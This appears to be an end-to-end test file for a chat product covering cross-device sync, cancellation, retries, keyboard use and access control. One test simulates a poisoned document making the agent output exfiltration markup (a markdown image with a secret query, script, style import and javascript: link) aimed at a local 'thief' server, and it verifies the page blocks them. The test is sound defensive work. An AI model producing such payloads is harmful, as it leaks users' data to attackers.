import { once } from 'node:events'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import type { Page } from 'playwright-core'
import { expect, test } from 'vitest'
import { useChatProduct } from './use-chat-product.ts'

const PATIENCE = { timeout: 30_000 }
const ANSWER = [
  'We open at **eight** and close at *six*.',
  '- Bread, every day\n- Cake, on Saturdays',
  '| day | open |\n| --- | --- |\n| Sunday | no |',
  'Anything else? `Ask.`',
].join('\n\n')

const used = useChatProduct()

const conversation = (page: Page) => page.getByRole('list', { name: 'Conversation' })
const words = (page: Page) => conversation(page).evaluate((list) => list.textContent)
const composer = (page: Page) => page.getByRole('textbox', { name: /^Message to/ })

/** The same person on two devices. */
async function twoDevices(email: string): Promise<[laptop: Page, phone: Page]> {
  const [laptop, phone] = await Promise.all([
    used.product.openApp({ reducedMotion: true }),
    used.product.openApp({ reducedMotion: true, phone: true }),
  ])
  await used.product.signIn(laptop, email)
  // Auth sends an address one mail a second.
  await phone.waitForTimeout(1500)
  await used.product.signIn(phone, email)
  await used.product.stack.sql()`update agents set status = 'published', instructions = 'You are a baker.'`
  return [laptop, phone]
}

async function ask(page: Page, text: string): Promise<void> {
  if (!page.url().includes('/chat')) await page.getByRole('link', { name: 'Chat' }).click()
  await composer(page).fill(text)
  await composer(page).press('Enter')
  await page.waitForURL(/\/chat\/[0-9a-f-]{36}$/)
}

/** Notes when the conversation says what, from now on. */
async function watch(page: Page): Promise<void> {
  await conversation(page).waitFor(PATIENCE)
  await page.evaluate(() => {
    const list = document.querySelector('[aria-label=Conversation]') as HTMLElement
    const seen: { at: number; text: string }[] = []
    const note = () => seen.push({ at: Date.now(), text: list.textContent ?? '' })
    new MutationObserver(note).observe(list, { childList: true, characterData: true, subtree: true })
    Object.assign(window, { seen })
  })
}
const seenBy = (page: Page) => page.evaluate(() => (window as unknown as { seen: { at: number; text: string }[] }).seen)

test('the phone shows what the laptop does, within the same second, and both the same after a reload', async () => {
  used.provider.answer = () => ({ text: ANSWER })
  used.provider.faults = () => ({ paceMs: 120 })
  const [laptop, phone] = await twoDevices('ada@example.com')
  await phone.getByRole('link', { name: 'Chat' }).click()
  await ask(laptop, 'When do you open?')
  await watch(laptop)
  // The phone's list hears of it by itself.
  await phone.getByRole('link', { name: /When do you open/ }).click(PATIENCE)
  await watch(phone)
  await Promise.all(
    [laptop, phone].map((page) =>
      conversation(page)
        .getByRole('link', { name: /how this answer/ })
        .waitFor(PATIENCE),
    ),
  )
  // What formats answers is loaded with the first one.
  await Promise.all([laptop, phone].map((page) => conversation(page).getByRole('table').waitFor(PATIENCE)))
  expect(await words(phone)).toBe(await words(laptop))
  expect(await conversation(phone).getByRole('listitem').filter({ hasText: 'Cake' }).count()).toBeGreaterThan(0)
  expect(await conversation(phone).getByRole('table').count()).toBe(1)

  const [here, there] = await Promise.all([seenBy(laptop), seenBy(phone)])
  const lags = there.flatMap(({ at, text }) => {
    const first = here.find((seen) => seen.text.length >= text.length)
    return first ? [Math.max(0, at - first.at)] : []
  })
  lags.sort((one, other) => one - other)
  console.log(`phone behind laptop: ${lags.length} steps, median ${lags[lags.length >> 1]} ms, worst ${lags.at(-1)} ms`)
  expect(lags.length).toBeGreaterThan(5)
  expect(lags[lags.length >> 1]).toBeLessThan(1000)

  const before = await words(laptop)
  await Promise.all([laptop.reload(), phone.reload()])
  for (const page of [laptop, phone]) {
    await conversation(page)
      .getByRole('link', { name: /how this answer/ })
      .waitFor(PATIENCE)
    await conversation(page).getByRole('table').waitFor(PATIENCE)
    expect(await words(page)).toBe(before)
  }
})

test('an answer is stopped from the other device; a long one by Escape; and the next message goes on', async () => {
  used.provider.answer = () => ({ text: 'word '.repeat(400) })
  used.provider.faults = () => ({ paceMs: 100 })
  const [laptop, phone] = await twoDevices('bea@example.com')
  await ask(laptop, 'Count.')
  await conversation(laptop).getByText('word word').waitFor(PATIENCE)
  await phone.goto(laptop.url())
  await phone.getByRole('button', { name: 'Stop' }).click(PATIENCE)
  await conversation(laptop).getByText('stopped').waitFor(PATIENCE)
  await conversation(phone).getByText('stopped').waitFor(PATIENCE)
  const left = await words(laptop)
  expect(await words(phone)).toBe(left)
  await phone.reload()
  await expect.poll(() => words(phone), PATIENCE).toBe(left)

  await composer(laptop).fill('Again.')
  await composer(laptop).press('Shift+Enter')
  await composer(laptop).pressSequentially('Please.')
  await composer(laptop).press('Enter')
  await laptop.getByRole('button', { name: 'Stop' }).waitFor(PATIENCE)
  await conversation(laptop).getByText('word word').nth(1).waitFor(PATIENCE)
  await composer(laptop).press('Escape')
  await expect.poll(() => conversation(laptop).getByText('stopped').count(), PATIENCE).toBe(2)
  expect(await words(laptop)).toContain('Again.\nPlease.')
  const runs = await used.product.stack.sql()`
    select r.status from ai.runs r join auth.users u on u.id = r.user_id where u.email = 'bea@example.com'`
  expect(runs.map(({ status }) => status)).toEqual(['cancelled', 'cancelled'])
})

test('a failure is told in words, and the run goes on when it is retried, here or there', async () => {
  used.provider.answer = () => ({ text: 'Here it is.' })
  used.provider.faults = () => ({ status: 401 })
  const [laptop, phone] = await twoDevices('cyd@example.com')
  await ask(laptop, 'Are you there?')
  const problem = laptop.getByRole('alert').filter({ hasText: 'The answer did not come' })
  await problem.waitFor(PATIENCE)
  await phone.goto(laptop.url())
  used.provider.faults = () => ({})
  await phone.getByRole('button', { name: 'Try again' }).click(PATIENCE)
  await conversation(phone).getByText('Here it is.').waitFor(PATIENCE)
  await conversation(laptop).getByText('Here it is.').waitFor(PATIENCE)
  await problem.waitFor({ state: 'detached' })
  await expect.poll(() => words(laptop), PATIENCE).toBe(await words(phone))
})

test('what a poisoned document makes the agent say is not fetched, and leads nowhere', async () => {
  const asked: string[] = []
  const thief = createServer((request, response) => {
    asked.push(request.url ?? '')
    response.end()
  }).listen(0, '127.0.0.1')
  await once(thief, 'listening')
  const address = `http://127.0.0.1:${(thief.address() as AddressInfo).port}`
  used.provider.answer = () => ({
    text: `Done. ![logo](${address}/1?secret=42) <img src="${address}/2"> [![x](${address}/3)](javascript:alert(1))\n\n<script src="${address}/4"></script>\n\n<style>@import url(${address}/5)</style>`,
  })
  const page = await used.product.openApp({ reducedMotion: true })
  const refused: string[] = []
  page.on('console', (message) => /Content Security Policy/.test(message.text()) && refused.push(message.text()))
  await used.product.signIn(page, 'dan@example.com')
  await used.product.stack.sql()`update agents set status = 'published'`
  await ask(page, 'Summarize it.')
  await conversation(page).getByText('Image from 127.0.0.1').first().waitFor(PATIENCE)
  await conversation(page)
    .getByRole('link', { name: /how this answer/ })
    .waitFor(PATIENCE)
  await page.waitForTimeout(500)
  expect(asked).toEqual([])
  // Nothing had to be refused by the page's policy either: it is the second wall.
  expect(refused).toEqual([])
  expect(await conversation(page).locator('img, script, style, iframe, [src]').count()).toBe(0)
  const links = await conversation(page)
    .locator('a')
    .evaluateAll((all) => all.map((link) => link.getAttribute('href')))
  expect(links.filter((href) => !href?.startsWith('/runs/'))).toEqual([])
  thief.close()
})

test('sessions are found by title, renamed and deleted, by keyboard alone', async () => {
  const page = await used.product.openApp({ reducedMotion: true })
  await used.product.signIn(page, 'eve@example.com')
  await used.product.stack.sql()`update agents set status = 'published'`
  await page.getByRole('link', { name: 'Chat' }).focus()
  await page.keyboard.press('Enter')
  await composer(page).focus()
  await page.keyboard.type('Rye or wheat?')
  await page.keyboard.press('Enter')
  await page.waitForURL(/\/chat\/[0-9a-f-]{36}$/)
  await conversation(page).getByText('Hello.').waitFor(PATIENCE)
  await expect.poll(() => page.evaluate(() => document.activeElement?.tagName)).toBe('TEXTAREA')
  await page.locator('[aria-live=polite]', { hasText: 'Robin: Hello.' }).waitFor({ state: 'attached' })
  await page.getByRole('button', { name: 'Rename' }).focus()
  await page.keyboard.press('Enter')
  await page.keyboard.press('ControlOrMeta+a')
  await page.keyboard.type('About flour')
  await page.keyboard.press('Enter')
  await page.getByRole('heading', { name: 'About flour' }).waitFor()
  await page.getByRole('link', { name: 'Chats' }).press('Enter')
  await page.getByRole('searchbox').fill('flou')
  await page.getByRole('link', { name: /About flour/ }).press('Enter')
  await page.getByRole('button', { name: 'Delete this chat' }).press('Enter')
  await page.keyboard.press('Enter')
  await page.waitForURL(/\/chat$/)
  await expect.poll(() => page.getByRole('link', { name: /About flour/ }).count()).toBe(0)
  const [left] = await used.product.stack.sql()`
    select count(*)::int as sessions from chat_sessions s join auth.users u on u.id = s.user_id where u.email = 'eve@example.com'`
  expect(left).toEqual({ sessions: 0 })
})

test('somebody else sees no such chat', async () => {
  const page = await used.product.openApp({ reducedMotion: true })
  await used.product.signIn(page, 'fay@example.com')
  await used.product.stack.sql()`update agents set status = 'published'`
  await ask(page, 'Only for me.')
  await conversation(page).getByText('Hello.').waitFor(PATIENCE)
  const address = page.url()
  const other = await used.product.openApp({ reducedMotion: true })
  await used.product.signIn(other, 'gil@example.com')
  await other.goto(address)
  await other.getByRole('heading', { name: 'No such chat' }).waitFor(PATIENCE)
})
